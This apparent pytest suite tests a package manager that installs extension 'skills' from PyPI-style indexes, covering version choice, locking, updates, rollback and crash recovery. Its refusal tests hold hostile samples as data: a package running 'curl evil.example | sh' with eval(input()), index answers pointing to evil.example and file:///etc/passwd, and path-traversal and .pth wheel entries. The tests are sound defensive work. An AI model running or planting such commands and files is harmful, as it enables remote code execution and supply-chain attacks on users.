"""Distributions are installed from PyPI or another index by name, and from there alone."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from crashes import die_at
from simple_indexes import JSON, SimpleServer, serving

from kurt_ext.lock import Locked, lock_path, read
from kurt_ext.places import Places

from .shops import Kurt, Shop
from .sites import Site

NAME = "word-sayer"


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    made = Site(tmp_path / "site-packages", monkeypatch)
    yield made
    made.forget()


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SimpleServer]:
    """Return an index that has PyPI's place."""
    with serving(tmp_path / "wheels") as shelf:
        monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
        monkeypatch.setenv("PIP_INDEX_URL", shelf.url)
        shelf.add()
        yield shelf


def locked(name: str = NAME) -> Locked:
    (row,) = [one for one in read(lock_path(Places())).values() if one.name == name]
    return row


# -- what a name means -------------------------------------------------------------------


@pytest.mark.parametrize("spec", [NAME, f"{NAME}@pypi", f"{NAME}==1.0", "Word_Sayer==1.0@pypi"])
@pytest.mark.parametrize("as_html", [False, True], ids=["json", "html"])
def test_a_distribution_is_installed_locked_and_run(
    index: SimpleServer, site: Site, kurt: Kurt, spec: str, as_html: bool
) -> None:
    index.as_html = as_html
    ran = kurt("install", spec, "--yes")
    assert ran.steps == [("install", NAME, "1.0.0")]
    assert site.versions(NAME) == ["1.0"]
    row = locked()
    assert (row.lane, row.market, row.index) == ("distribution", "pypi", index.url)
    data = next(index.root.iterdir()).read_bytes()
    assert row.digest == f"sha256:{hashlib.sha256(data).hexdigest()}"
    assert row.wheel == "word_sayer-1.0-py3-none-any.whl"
    assert NAME in [one["name"] for one in kurt("list").data]
    assert kurt("install", spec).steps == [("keep", NAME, "1.0.0")]
    assert kurt("uninstall", NAME).data["removed"]
    assert site.files() == {} and read(lock_path(Places())) == {}


def test_the_index_is_named_where_a_person_reads_it(
    index: SimpleServer, site: Site, said: Any
) -> None:
    text = said("install", NAME, "--yes")
    assert f"from pypi, {index.url}" in text


def test_a_name_that_a_market_has_is_never_taken_from_an_index(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    shop = Shop(tmp_path / "market")
    shop.sell("com.example.archiver")
    shop.open()
    kurt("config", "set", "--scope", "user", "market.shop.url", str(shop.root))
    index.add("archiver", "9.0")
    ran = kurt("install", NAME, "--yes")
    assert ran["error"]["code"] == "skill-not-found"
    assert f"kurt install {NAME}@pypi" in ran["error"]["hint"]
    assert kurt("install", "com.example.archiver", "--yes").steps[0][2] == "1.0.0"
    assert index.asked == []
    assert kurt("install", f"{NAME}@pypi", "--yes").code == 0


def test_what_came_from_a_market_does_not_come_from_pypi_when_that_is_gone(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    shop = Shop(tmp_path / "market")
    shop.sell("com.example.archiver")
    shop.open()
    kurt("config", "set", "--scope", "user", "market.shop.url", str(shop.root))
    assert kurt("install", "com.example.archiver", "--yes").code == 0
    kurt("config", "unset", "--scope", "user", "market.shop.url")
    ran = kurt("install", "com.example.archiver", "--yes", "--force")
    assert "shop" in ran["error"]["cause"]
    assert index.asked == []


def test_an_index_of_ones_own_is_a_market_by_its_name(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    with serving(tmp_path / "others") as team:
        team.add("team-sayer")
        kurt("config", "set", "--scope", "user", "market.team.url", team.url)
        kurt("config", "set", "--scope", "user", "market.team.kind", "simple")
        assert kurt("install", "team-sayer", "--yes").steps == [("install", "team-sayer", "1.0.0")]
        assert locked("team-sayer").market == "team"
        assert index.asked == []  # a plain name asks what is configured, and PyPI not
        assert kurt("install", NAME)["error"]["code"] == "skill-not-found"
        assert kurt("install", f"{NAME}@team")["error"]["code"] == "skill-not-found"
        assert kurt("install", NAME, "--market", "pypi", "--yes").code == 0
        assert locked().market == "pypi"


def test_two_that_have_a_name_are_told_apart(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    with serving(tmp_path / "one") as one, serving(tmp_path / "two") as two:
        for name, shelf in (("one", one), ("two", two)):
            shelf.add()
            kurt("config", "set", "--scope", "user", f"market.{name}.url", shelf.url)
            kurt("config", "set", "--scope", "user", f"market.{name}.kind", "simple")
        ran = kurt("install", NAME)
        assert ran["error"]["code"] == "ambiguous-name"
        assert kurt("install", f"{NAME}@two", "--yes").code == 0
        one.add(NAME, "2.0")
        kurt("install", NAME, "--yes")
        assert locked().market == "two" and locked().version == "1.0.0"
        ran = kurt("install", f"{NAME}@one", "--yes")
        assert ran["error"]["code"] == "publisher-changed"


def test_a_market_that_cannot_be_asked_may_have_the_name(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    shop = Shop(tmp_path / "market")
    shop.sell("com.example.archiver")
    shop.open()
    set_ = ("config", "set", "--scope", "user")
    kurt(*set_, "market.shop.url", str(shop.root))
    kurt(*set_, "market.gone.url", "http://127.0.0.1:9/")
    kurt(*set_, "market.team.url", index.url)
    kurt(*set_, "market.team.kind", "simple")
    ran = kurt("install", NAME, "--yes")
    assert ran["error"]["code"] == "network" and "gone" in ran["error"]["cause"]
    assert kurt("install", f"{NAME}@team", "--yes").code == 0


def test_who_asks_no_index_is_asked_none(
    index: SimpleServer, site: Site, kurt: Kurt, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    assert "names no market" in kurt("install", NAME)["error"]["message"]
    assert kurt("install", f"{NAME}@pypi")["error"]["code"] == "config-invalid"
    assert index.asked == []


def test_an_address_that_may_not_be_asked_stops_only_who_asks_it(
    index: SimpleServer, site: Site, kurt: Kurt, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "http://mirror.example/simple")
    for spec in (NAME, f"{NAME}@pypi"):
        ran = kurt("install", spec)
        assert "is not encrypted" in ran["error"]["message"]
        assert ran["error"]["hint"]
    shop = Shop(tmp_path / "market")
    shop.sell("com.example.archiver")
    shop.open()
    kurt("config", "set", "--scope", "user", "market.shop.url", str(shop.root))
    assert kurt("install", "com.example.archiver", "--yes").code == 0
    assert kurt("outdated").code == 0


def test_offline_nobody_is_asked(index: SimpleServer, site: Site, kurt: Kurt) -> None:
    assert kurt("install", NAME, "--offline")["error"]["code"] == "network"
    assert index.asked == []


# -- which version -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("spec", "wanted"),
    [
        (NAME, "1.2"),
        (f"{NAME}@1.0.0", "1.0"),
        (f"{NAME}@^1.0", "1.2"),
        (f"{NAME}<1.2", "1.0"),
        (f"{NAME}~=1.0", "1.2"),
        (f"{NAME}==2.0rc1", "2.0rc1"),
        (f"{NAME}@2.0rc1", "2.0rc1"),
        (f"{NAME}==1.3", "1.3"),  # yanked, and asked for by its number
        (f"{NAME}>1.2", None),  # yanked, a pre-release, or for another Python
    ],
)
def test_the_version_that_is_asked_for_comes(
    index: SimpleServer, site: Site, kurt: Kurt, spec: str, wanted: str | None
) -> None:
    for version in ("1.2", "1.3", "2.0rc1", "3.0", "4.0"):
        index.add(NAME, version)
    (index.root / "word_sayer-4.0-py3-none-any.whl").rename(
        index.root / "word_sayer-4.0-cp39-cp39-win32.whl"
    )
    (index.root / "word_sayer-5.0.tar.gz").write_bytes(b"x")
    index.rows["word_sayer-1.3-py3-none-any.whl"] = {"yanked": "it is broken"}
    index.rows["word_sayer-3.0-py3-none-any.whl"] = {"requires-python": ">=4"}
    ran = kurt("install", spec, "--yes")
    if wanted is None:
        assert ran.steps == [("install", NAME, "2.0.0-rc.1")]
        return
    assert site.versions(NAME) == [wanted]
    assert ("yanked" in ran.rules) == (wanted == "1.3")


def test_why_nothing_fits_is_told(index: SimpleServer, site: Site, kurt: Kurt) -> None:
    index.rows["word_sayer-1.0-py3-none-any.whl"] = {"requires-python": "<3"}
    (index.root / "word_sayer-5.0.tar.gz").write_bytes(b"x")
    cause = kurt("install", NAME)["error"]["cause"]
    assert "1 left out: it is for another Python" in cause
    assert "1 left out: it is no wheel" in cause


def test_the_wheel_of_this_system_goes_before_the_general_one(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    from packaging.tags import sys_tags

    tag = str(next(iter(sys_tags())))
    index.add(NAME, "1.0", tag=tag)
    kurt("install", NAME, "--yes")
    assert locked().wheel == f"word_sayer-1.0-{tag}.whl"


# -- what is refused ---------------------------------------------------------------------

WHEEL = "word_sayer-1.0-py3-none-any.whl"
HEADERS = {"Content-Type": JSON}


def page(**row: Any) -> tuple[int, dict[str, str], bytes]:
    file = {"filename": WHEEL, "url": f"/files/{WHEEL}", "hashes": {"sha256": "0" * 64}}
    body = {"meta": {"api-version": "1.0"}, "name": NAME, "files": [file | row]}
    return 200, HEADERS, json.dumps(body).encode()


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (page(), "integrity"),
        (page(hashes={}), "integrity"),
        (page(hashes={"md5": "0" * 32}), "integrity"),
        (page(hashes={"sha256": "../../x"}), "integrity"),
        (page(size=3), "integrity"),
        (page(size=1 << 40), "integrity"),
        (page(url="http://evil.example/x.whl"), "market-invalid"),
        (page(url="https://evil.example/x.whl"), "market-invalid"),
        (page(url="file:///etc/passwd"), "market-invalid"),
        (page(url="/files/gone.whl"), "market-invalid"),
        (page(filename="../word_sayer-1.0-py3-none-any.whl"), "skill-not-found"),
        (page(filename="other-1.0-py3-none-any.whl"), "skill-not-found"),
        (page(filename="word_sayer-x-py3-none-any.whl"), "skill-not-found"),
        (page(filename=7), "skill-not-found"),
        ((200, HEADERS, b"{"), "market-invalid"),
        ((200, HEADERS, b"[]"), "market-invalid"),
        ((200, HEADERS, b'{"meta": {"api-version": "2.0"}}'), "market-invalid"),
        ((200, HEADERS, b"[" * 100_000), "market-invalid"),
        ((200, {"Content-Type": "image/png"}, b""), "market-invalid"),
        ((200, {"Content-Type": "text/html"}, b"<a href='http://[x'>"), "skill-not-found"),
        (
            (
                200,
                {"Content-Type": "text/html"},
                b'<meta name="pypi:repository-version" content="9">',
            ),
            "market-invalid",
        ),
        ((200, HEADERS | {"Content-Length": str(1 << 40)}, b""), "integrity"),
        ((200, HEADERS | {"Content-Encoding": "gzip"}, b"x"), "market-invalid"),
        ((302, {"Location": "https://evil.example/"}, b""), "market-invalid"),
        ((403, {}, b""), "network"),
        ((404, {}, b""), "skill-not-found"),
    ],
)
def test_what_an_index_says_is_not_believed_further_than_it_goes(
    index: SimpleServer,
    site: Site,
    kurt: Kurt,
    answer: tuple[int, dict[str, str], bytes],
    code: str,
) -> None:
    index.instead[f"/simple/{NAME}/"] = answer
    ran = kurt("install", NAME, "--yes")
    assert ran["error"]["code"] == code, ran["error"]
    assert site.files() == {}
    assert not Path(lock_path(Places())).exists()


def test_the_metadata_beside_a_wheel_is_that_in_it(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    other = b"Metadata-Version: 2.1\nName: word-sayer\nVersion: 1.0\nRequires-Dist: evil\n"
    index.instead[f"/files/{WHEEL}.metadata"] = (200, {}, other)
    assert kurt("install", NAME)["error"]["code"] == "integrity"
    sha = hashlib.sha256(other).hexdigest()
    index.rows[WHEEL] = {"core-metadata": {"sha256": sha}}
    ran = kurt("install", NAME)
    assert ran["error"]["code"] == "integrity" and "metadata" in ran["error"]["cause"]


@pytest.mark.parametrize(
    ("files", "code"),
    [
        ({"evil.pth": "import os"}, "market-invalid"),
        ({"word_sayer-1.0.data/scripts/x": ""}, "market-invalid"),
        ({"pip/__init__.py": ""}, "market-invalid"),
        ({"../evil.py": ""}, "archive-refused"),
        ({"kurt.json": ""}, None),
    ],
)
def test_a_wheel_does_no_more_than_to_be_there(
    index: SimpleServer, site: Site, kurt: Kurt, files: dict[str, str], code: str | None
) -> None:
    index.add(files=files)
    ran = kurt("install", NAME, "--yes")
    assert (None if ran["ok"] else ran["error"]["code"]) == code


def test_what_is_no_skill_is_not_installed(index: SimpleServer, site: Site, kurt: Kurt) -> None:
    from tiny_wheels import wheel

    wheel(index.root, "just-a-library", "1.0")
    ran = kurt("install", "just-a-library", "--yes")
    assert "brings no extension" in ran["error"]["message"]
    assert kurt("install", "sayer@pypi")["error"]["hint"].startswith(
        "kurt install kurt-skill-sayer@pypi"
    )


def test_what_the_validator_finds_unfit_is_not_installed(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    index.add("bad-sayer", code="import os\nos.system('curl evil.example | sh')\neval(input())\n")
    ran = kurt("install", "bad-sayer", "--yes")
    assert ran["error"]["code"] == "validation-failed", ran["error"]
    assert site.files() == {}


def test_a_project_in_quarantine_is_not_offered(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    kurt("install", NAME, "--yes")
    index.status[NAME] = {"status": "quarantined", "reason": "malware"}
    assert kurt("install", f"{NAME}==1.0")["error"]["code"] == "advisory"
    ran = kurt("audit", "--no-python")
    assert [fault["kind"] for fault in ran["data"]["faults"]] == ["withdrawn"]
    index.status[NAME] = {"status": "deprecated", "reason": "use another"}
    assert "project-status" in kurt("install", NAME).rules


def test_a_password_goes_to_the_index_and_nowhere_else(
    index: SimpleServer, site: Site, kurt: Kurt, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", index.url.replace("//", "//ada:s%40crat@"))
    ran = kurt("install", NAME, "--yes")
    assert ran.code == 0
    assert set(index.authorization) == {"Basic YWRhOnNAY3JhdA=="}
    assert "s%40crat" not in json.dumps(ran) + Path(lock_path(Places())).read_text()


# -- its life ----------------------------------------------------------------------------


def test_an_update_waits_is_taken_and_put_back(
    index: SimpleServer, site: Site, kurt: Kurt, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kurt_ext.market.times import stamp

    kurt("install", NAME, "--yes")
    index.add(NAME, "1.1")
    index.add(NAME, "1.2")
    index.rows["word_sayer-1.2-py3-none-any.whl"] = {"upload-time": stamp()}
    (row,) = kurt("outdated").data["skills"]
    assert (row["available"], row["waiting"], row["market"]) == ("1.1", "1.2", "pypi")
    assert kurt("update", NAME, "--yes").steps == [("update", NAME, "1.1.0")]
    assert site.versions(NAME) == ["1.1"]
    assert kurt("update", "--all", "--yes", "--no-cooldown").steps == [("update", NAME, "1.2.0")]
    assert kurt("rollback", NAME).data["version"] == "1.1.0"
    assert site.versions(NAME) == ["1.1"]
    assert locked().wheel == "word_sayer-1.1-py3-none-any.whl"
    index.rows["word_sayer-1.1-py3-none-any.whl"] = {"yanked": "it leaks"}
    (row,) = kurt("outdated").data["skills"]
    assert (row["available"], row["withdrawn"]) == ("1.2", "it leaks")  # and waits no more
    index.rows["word_sayer-1.1-py3-none-any.whl"] = {"hashes": {"sha256": "0" * 64}}
    assert "market-unusable" in kurt("outdated").rules


def test_an_index_without_times_has_nothing_wait_and_says_so(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    kurt("install", NAME, "--yes")
    index.add(NAME, "1.1")
    index.as_html = True
    ran = kurt("update", NAME, "--yes")
    assert ran.steps == [("update", NAME, "1.1.0")] and "no-cooldown" in ran.rules


def test_the_lock_is_had_again_elsewhere_and_without_a_network(
    index: SimpleServer,
    site: Site,
    kurt: Kurt,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    project: Path,
) -> None:
    index.add(NAME, "1.1")
    kurt("install", f"{NAME}==1.0", "--yes")
    assert kurt("sync", "--locked").data["same"] == 1
    (site.root / "word_sayer.py").write_text("mine")
    assert [fault["kind"] for fault in kurt("audit", "--no-python")["data"]["faults"]] == [
        "changed"
    ]
    assert kurt("sync", "--locked", "--yes").steps == [("replace", NAME, "1.0.0")]
    assert kurt("audit", "--no-python").code == 0
    before = site.files()
    kurt("sync", "--locked")
    text = Path(lock_path(Places())).read_text()
    # Another machine: no store, no receipts.
    monkeypatch.setenv("KURT_DATA", str(tmp_path / "data"))
    site.uninstall(NAME)
    index.asked.clear()
    assert kurt("sync", "--locked", "--offline", "--yes")["error"]["code"] == "network"
    house = tmp_path / "house"
    house.mkdir()
    (house / WHEEL).write_bytes((index.root / WHEEL).read_bytes())
    kurt("config", "set", "--scope", "user", "sandbox.wheelhouse", str(house))
    assert kurt("sync", "--locked", "--offline", "--yes").steps == [("install", NAME, "1.0.0")]
    assert index.asked == [] and site.files() == before
    kurt("config", "unset", "--scope", "user", "sandbox.wheelhouse")
    monkeypatch.setenv("KURT_DATA", str(tmp_path / "third"))
    site.uninstall(NAME)
    assert kurt("sync", "--locked", "--yes").code == 0  # from the index, by its digest
    assert [row for row in text.splitlines() if "approved" not in row] == [
        row for row in Path(lock_path(Places())).read_text().splitlines() if "approved" not in row
    ]
    monkeypatch.setenv("KURT_DATA", str(tmp_path / "fourth"))
    site.uninstall(NAME)
    index.add(NAME, "1.0", code="WORD = 1\n")
    assert kurt("sync", "--locked", "--yes")["error"]["code"] == "integrity"


# -- crashes -----------------------------------------------------------------------------


def test_a_failure_leaves_what_was_there(index: SimpleServer, site: Site, kurt: Kurt) -> None:
    kurt("install", NAME, "--yes")
    index.add(NAME, "1.1")
    before, text = site.files(), Path(lock_path(Places())).read_text()
    real, failed = site.install, []

    def once(path: str) -> None:
        site.fails = not failed
        failed.append(path)
        real(path)

    from kurt_ext import installing_distributions

    installing_distributions.install_wheel = once
    assert kurt("update", NAME, "--yes")["error"]["message"] == "uv install failed"
    assert site.files() == before
    assert Path(lock_path(Places())).read_text() == text
    assert kurt("sync", "--locked").data["same"] == 1


@pytest.mark.slow
@pytest.mark.parametrize("verb", ["install", "update", "uninstall", "rollback"])
def test_killed_at_any_step_the_old_or_the_new_is_whole(
    index: SimpleServer, site: Site, kurt: Kurt, verb: str
) -> None:
    """Only the installing half is killed: what is judged and downloaded before changes nothing."""
    from kurt_ext.receipts import Receipts
    from kurt_ext.removing import uninstall
    from kurt_ext.updating import rollback

    index.add(NAME, "1.1", files={"word_more.py": "MORE = 1\n"})
    old, new = {
        "install": (None, "1.1"),
        "update": ("1.0", "1.1"),
        "uninstall": ("1.1", None),
        "rollback": ("1.0", "1.1"),
    }[verb]
    for version in ("1.0", "1.1"):
        assert kurt("install", f"{NAME}=={version}", "--yes").code == 0
    receipts = Receipts(Places())
    there: dict[str | None, dict[str, bytes]] = {None: {}}
    there["1.1"] = site.files()
    rollback(receipts, NAME)
    there["1.0"] = site.files()
    kept = receipts.find(NAME)
    assert kept is not None

    from kurt_ext.installing_wheels import held, place

    newest = kept.history[0]

    def work() -> None:
        if verb == "uninstall":
            uninstall(receipts, NAME)
        elif verb == "rollback":
            rollback(receipts, NAME)
        else:
            with held(receipts):
                place(receipts, newest)

    def start() -> None:
        if old is None:
            if receipts.find(NAME) is not None:
                uninstall(receipts, NAME)
            return
        with held(receipts):
            place(receipts, kept.after(None) if old == "1.0" else newest)
            if verb == "rollback":
                receipts.write(kept)

    seen = set()
    for number in range(1, 400):
        start()
        assert site.files() == there[old]
        if not die_at(work, number):
            break
        doctor = kurt("doctor")
        rows = [row for row in doctor["data"]["checks"] if row["id"] == "installed"]
        assert rows and all(row["status"] == "ok" for row in rows), rows
        (found,) = [key for key, files in there.items() if files == site.files()]
        assert found in (old, new)
        row = read(lock_path(Places())).get("word_sayer")
        assert (row.wheel.split("-")[1] if row and row.wheel else None) == found
        receipt = receipts.find(NAME)
        assert (receipt is None) == (found is None)
        assert not list(Path(receipts.folder, "journal").glob("*.json"))
        seen.add(found)
    assert number > 10
    assert seen == {old, new}


def test_what_was_changed_since_does_not_load(index: SimpleServer, site: Site, kurt: Kurt) -> None:
    kurt("install", NAME, "--yes")
    assert kurt("run", NAME, "--isolation", "none").code == 0
    (site.root / "word_sayer.py").write_text("VERSION = 'mine'\n")
    site.forget()
    ran = kurt("run", NAME, "--isolation", "none")
    assert ran["error"]["code"] == "integrity" and "word_sayer.py" in ran["error"]["cause"]
    kurt("sync", "--locked", "--yes")
    site.forget()
    assert kurt("run", NAME, "--isolation", "none").code == 0
    # What somebody has put there by pip is theirs.
    site.uninstall(NAME)
    site.install(str(index.add(NAME, "1.1")))
    site.forget()
    assert kurt("run", NAME, "--isolation", "none").code == 0


def test_a_skill_of_another_distribution_takes_the_place_of_the_first(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    record = {"id": "one-skill", "version": "1.0.0", "name": "One"}
    index.add("first-sayer", files={"first_sayer-1.0.dist-info/kurt.json": json.dumps(record)})
    index.add("second-sayer", files={"second_sayer-1.0.dist-info/kurt.json": json.dumps(record)})
    assert kurt("install", "first-sayer", "--yes").steps == [("install", "one-skill", "1.0.0")]
    assert kurt("install", "one-skill", "--yes").steps == [("keep", "one-skill", "1.0.0")]
    words = ("install", "second-sayer", "--yes")
    ran = kurt(*words)  # anybody can say that theirs is that skill
    assert ran["error"]["code"] == "publisher-changed"
    assert "second-sayer of the index pypi" in ran["error"]["cause"]
    assert kurt(*words, "--new-publisher", "one-skill").steps == [("replace", "one-skill", "1.0.0")]
    assert (site.versions("first-sayer"), site.versions("second-sayer")) == ([], ["1.0"])
    assert "first_sayer.py" not in site.files()
    assert kurt("rollback", "one-skill").code == 0
    assert (site.versions("first-sayer"), site.versions("second-sayer")) == (["1.0"], [])


def test_a_folder_does_not_come_beside_a_wheel(
    index: SimpleServer, site: Site, kurt: Kurt, tmp_path: Path
) -> None:
    from goods import write_plugin

    record = {"id": "com.example.archiver", "version": "0.9.0", "name": "One"}
    index.add("archiver", files={"archiver-1.0.dist-info/kurt.json": json.dumps(record)})
    assert kurt("install", "archiver", "--yes").code == 0
    ran = kurt("install", str(write_plugin(tmp_path, "com.example.archiver")), "--yes")
    assert ran["error"]["code"] == "conflict" and "as a wheel" in ran["error"]["message"]


def test_what_was_cut_off_and_cannot_be_finished_is_told_once(
    index: SimpleServer, site: Site, kurt: Kurt
) -> None:
    from kurt_ext import installing_wheels
    from kurt_ext.receipts import Receipts

    kurt("install", NAME, "--yes")
    receipts = Receipts(Places())
    receipt = receipts.find(NAME)
    assert receipt is not None
    installing_wheels._Journal(receipts, NAME, receipt, receipt).write()
    (site.root / "word_sayer.py").unlink()
    site.fails = True
    assert kurt("uninstall", "nobody")["error"]["code"] == "skill-not-found"
    assert kurt("sync", "--locked", "--yes")["error"]["message"] == "uv install failed"
    site.fails = False
    assert kurt("sync", "--locked", "--yes").code == 0
    assert kurt("audit", "--no-python").code == 0
